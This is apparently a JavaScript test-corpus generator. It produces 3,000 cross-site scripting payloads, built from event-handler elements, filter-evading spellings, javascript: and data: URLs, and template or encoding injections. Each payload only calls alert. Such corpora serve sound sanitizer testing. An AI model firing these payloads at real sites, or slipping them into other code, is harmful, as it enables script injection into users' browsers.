// Attacks on whoever shows text as HTML: 3,000 of them, always the same ones. Each calls alert('xss-N') if it runs.
const run = (n) => `alert('xss-${n}')`;

/** Elements that run a handler by themselves, and what they need for it. */
const SELF = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/favicon.png', 'onload'],
  ['svg', '', 'onload'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x dur=1s', 'onend'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['video', 'src=x', 'onerror'],
  ['video><source', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=/favicon.png', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=/nothing.js', 'onerror'],
  ['marquee', '', 'onstart'],
  ['div', 'style="animation:spin 1s"', 'onanimationstart'],
  ['div', 'tabindex=1 autofocus', 'onfocus'],
  ['math><mi', 'tabindex=1 autofocus', 'onfocus'],
];
/** The same element in the spellings that filters have overlooked. */
const SPELLINGS = [
  (tag, rest, on, js) => `<${tag} ${rest} ${on}="${js}">`,
  (tag, rest, on, js) => `<${tag.toUpperCase()} ${rest} ${on.toUpperCase()}="${js}">`,
  (tag, rest, on, js) => `<${tag}/${rest.replaceAll(' ', '/')}/${on}=${js.replaceAll("'", '`')}>`,
  (tag, rest, on, js) => `<${tag}\t${rest}\n${on}\n=\n"${js}">`,
  (tag, rest, on, js) => `"><${tag} ${rest} ${on}="${js}">`,
  (tag, rest, on, js) => `'><${tag} ${rest} ${on}="${js}">`,
  (tag, rest, on, js) => `</title></textarea></style></script><${tag} ${rest} ${on}="${js}">`,
  (tag, rest, on, js) => `<!--><${tag} ${rest} ${on}="${js}">-->`,
  (tag, rest, on, js) => `<![CDATA[><${tag} ${rest} ${on}="${js}">]]>`,
  (tag, rest, on, js) => `<noscript><p title="</noscript><${tag} ${rest} ${on}=${js.replaceAll("'", '`')}>">`,
  (tag, rest, on, js) => `<math><mtext><table><mglyph><style><${tag} ${rest} ${on}="${js}">`,
  (tag, rest, on, js) => `<${tag} ${rest} ${on}="${[...js].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}">`,
  (tag, rest, on, js) => `<${tag} ${rest} x="\`" ${on}="${js}" y="\`>">`,
  (tag, rest, on, js) => `<<${tag} ${rest} ${on}="${js}">>`,
  (tag, rest, on, js) => `\u0000<${tag} ${rest} ${on}="${js}">`.slice(1),
  (tag, rest, on, js) => `<svg><foreignObject><${tag} ${rest} ${on}="${js}"></foreignObject></svg>`,
];
/** Addresses that run when they are followed or loaded. */
const SCHEMES = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `&#106;avascript&colon;${js}`,
  (js) => ` \u0001javascript:${js}`.trim(),
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
  (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${js}"/>`,
  (js) => `//x" onerror="${js}`,
];
const CARRIERS = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button formaction="${url}">x</button>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}//">`,
  (url) => `<link rel="import" href="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<div style="background:url('${url}')">x</div>`,
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<iframe srcdoc="<a href='${url}'>x</a>"></iframe>`,
  (url) => `[x](${url})`,
];
/** Scripts in the open, and text that becomes one inside another language. */
const BARE = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<scr<script>ipt>${js}</script>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `'-${js}-'`,
  (js) => `";${js};//`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `<%= ${js} %>`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `<x onclick=${js.replaceAll("'", '`')} autofocus tabindex=1 onfocus=${js.replaceAll("'", '`')}>`,
];

const WRAPPERS = [(text) => text, (text) => `Hello ${text} bye`, (text) => `<b title='${text}'>x</b>`, (text) => `<table><td>${text}</table>`, (text) => `<p>&lt;${text}`];

export function makeVectors(count = 3000) {
  const makers = [
    ...SELF.flatMap(([tag, rest, on]) => SPELLINGS.map((spell) => (n) => spell(tag, rest, on, run(n)))),
    ...SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => (n) => carry(scheme(run(n))))),
    ...BARE.map((write) => (n) => write(run(n))),
  ];
  const out = [];
  for (let n = 0; out.length < count; n += 1) out.push(WRAPPERS[Math.floor(n / makers.length) % WRAPPERS.length](makers[n % makers.length](n)));
  return out;
}
